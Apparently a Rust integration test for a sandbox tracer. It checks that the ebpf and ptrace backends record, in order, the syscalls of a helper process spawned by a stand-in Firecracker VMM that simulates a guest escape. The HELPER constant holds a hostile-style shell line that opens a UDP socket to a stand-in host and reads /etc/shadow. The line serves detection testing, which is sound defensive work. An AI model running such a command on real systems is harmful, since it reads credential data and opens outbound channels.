//! A guest that gets out of its VMM: what the helper does that it starts is in the
//! trail in order, with its process and what it asked for.

use crate::calls::{One, in_force};
use crate::fleet::{of_type, records};
use crate::support::{config, lab};
use sandtrace_lab::{Lab, StandInForm};
use serde_json::{Value, json};
use std::fs;
use std::time::{Duration, Instant};

/// As the stand-in has it.
const HELPER: &str = "exec 3<>/dev/udp/203.0.113.9/53; read -n1 x </etc/shadow; exec sleep 600";

/// The process that the VMM started, as this host numbers it, once it sleeps.
#[track_caller]
fn helper_of(vmm: u32) -> u32 {
    let deadline = Instant::now() + Duration::from_secs(20);
    loop {
        let tasks = fs::read_dir(format!("/proc/{vmm}/task")).unwrap().flatten();
        let children =
            tasks.filter_map(|task| fs::read_to_string(task.path().join("children")).ok());
        let children: Vec<u32> = children
            .flat_map(|all| {
                all.split_whitespace()
                    .map(|pid| pid.parse().unwrap())
                    .collect::<Vec<_>>()
            })
            .collect();
        let sleeps = |pid: &&u32| {
            fs::read_to_string(format!("/proc/{pid}/comm")).is_ok_and(|name| name == "sleep\n")
        };
        if let Some(helper) = children.iter().find(sleeps) {
            return *helper;
        }
        assert!(Instant::now() < deadline, "no helper sleeps: {children:?}");
        std::thread::sleep(Duration::from_millis(20));
    }
}

/// What is said of the calls that an escape is made of, in the trail's order.
fn told(records: &[Value]) -> Vec<Value> {
    let wanted = |call: &Value| match call["name"].as_str() {
        Some("execve") => true,
        Some("connect") => call["address"] == "203.0.113.9:53",
        Some("openat") => call["path"] == "/etc/shadow",
        _ => false,
    };
    let calls = of_type(records, "syscall_activity").into_iter();
    let calls = calls.filter(|record| wanted(&record["payload"]["call"]));
    let told = calls.map(|record| {
        let (payload, call) = (&record["payload"], &record["payload"]["call"]);
        json!({
            "call": call["name"],
            "of": call.get("path").or(call.get("address")),
            "argv": call["argv"],
            "pid": payload["process"]["pid"],
            "tid": call["tid"],
            "started_by_vmm": payload["process"]["started_by_vmm"],
            "group": payload["group"],
            "backend": payload["backend"],
            "subject": payload["subject"],
            "verdict": record["verdict"]["result"],
        })
    });
    told.collect()
}

#[track_caller]
fn check(backend: &str, lab: &Lab) {
    let id = format!("e{}{backend}", lab.id());
    let mut config = config(lab, StandInForm::Firecracker, &id);
    config.boot_args += " standin.escape_ms=300";
    let mut vmm = lab.stand_in(&config).unwrap();
    let trail = lab.dir().join(format!("{id}.jsonl"));
    let mut watch = One::start(lab, &id, backend, &trail);
    watch.until("does it begin", |watch| {
        watch.said().contains("Ctrl-C ends")
    });
    vmm.start().unwrap();
    // A guest program from before this test starts none: cargo xtask setup.
    let helper = helper_of(vmm.pid());
    vmm.kill();
    watch.until("does it end with the VMM", |watch| {
        watch.child.try_wait().unwrap().is_some()
    });
    assert!(watch.child.wait().unwrap().success(), "{}", watch.said());

    let records = records(&trail);
    assert_eq!(in_force(&records)["backend"], backend);
    let expected = |call: &str, of: &str, argv: Value, verdict: &str| {
        json!({
            "call": call, "of": of, "argv": argv, "pid": helper, "tid": helper,
            "started_by_vmm": true, "group": "child", "backend": backend,
            "subject": "vmm", "verdict": verdict,
        })
    };
    let none = Value::Null;
    let expected = [
        expected(
            "execve",
            "/bin/bash",
            json!(["/bin/bash", "-c", HELPER, "helper", "--env", "TOKEN=***"]),
            "deny",
        ),
        expected("connect", "203.0.113.9:53", none.clone(), "anomaly"),
        expected("openat", "/etc/shadow", none, "anomaly"),
        expected("execve", "/usr/bin/sleep", json!(["sleep", "600"]), "deny"),
    ];
    assert_eq!(told(&records), expected, "{backend}");
    assert!(of_type(&records, "capture_gap").is_empty());
}

#[test]
fn an_escape_is_in_the_trail_in_order() {
    let Some(lab) = lab("an_escape_is_in_the_trail_in_order") else {
        return;
    };
    for backend in ["ebpf", "ptrace"] {
        check(backend, &lab);
    }
}
